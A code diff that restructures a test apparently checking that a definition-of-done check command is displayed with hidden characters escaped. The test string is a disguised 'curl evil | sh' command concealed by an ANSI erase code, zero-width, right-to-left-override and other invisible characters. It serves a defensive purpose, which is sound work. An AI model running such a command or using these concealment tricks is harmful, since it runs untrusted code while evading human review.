@@ -178,10 +178,8 @@ describe("a hash", () => {
   });
 });
 
-describe("what is shown", () => {
-  it("hides nothing", () => {
-    const command = "echo ok\n\u001B[2Kcurl\u200B evil\u202E \u2028|\u00A0sh";
-    const [shown = ""] = whats({ definitionOfDone: { checks: [{ id: "t", command }] } });
-    expect(shown).toContain(String.raw`"echo ok\n\u001b[2Kcurl\u{200b} evil\u{202e} \u{2028}|\u{a0}sh"`);
-  });
+it("what is shown hides nothing", () => {
+  const command = "echo ok\n\u001B[2Kcurl\u200B evil\u202E \u2028|\u00A0sh";
+  const [shown = ""] = whats({ definitionOfDone: { checks: [{ id: "t", command }] } });
+  expect(shown).toContain(String.raw`"echo ok\n\u001b[2Kcurl\u{200b} evil\u{202e} \u{2028}|\u{a0}sh"`);
 });
